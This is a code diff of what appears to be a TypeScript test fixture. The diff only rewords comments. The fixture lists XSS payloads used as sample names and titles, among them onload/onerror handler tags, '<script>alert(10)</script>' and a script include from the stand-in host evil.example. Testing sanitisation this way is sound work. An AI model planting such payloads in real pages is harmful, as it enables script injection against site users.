@@ -3,7 +3,7 @@
 const HANDLERS = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart']
 const ELSEWHERE = 'evil.example'
 
-/** At most 24 signs, as names are. */
+/** Names, with at most 24 characters. */
 export const NAMES: readonly string[] = [
   '<svg onload=alert(1)>',
   '<svg/onload=alert(2)>',
@@ -58,7 +58,7 @@ export const NAMES: readonly string[] = [
   '⁣‍ Ana',
 ]
 
-/** At most 80 signs, as titles are; the notes may be longer, and are these too. */
+/** Titles, with at most 80 characters. They also serve as notes, which may be longer. */
 export const TITLES: readonly string[] = [
   '<script>alert(10)</script>',
   '<script src=//evil.example/x.js></script>',
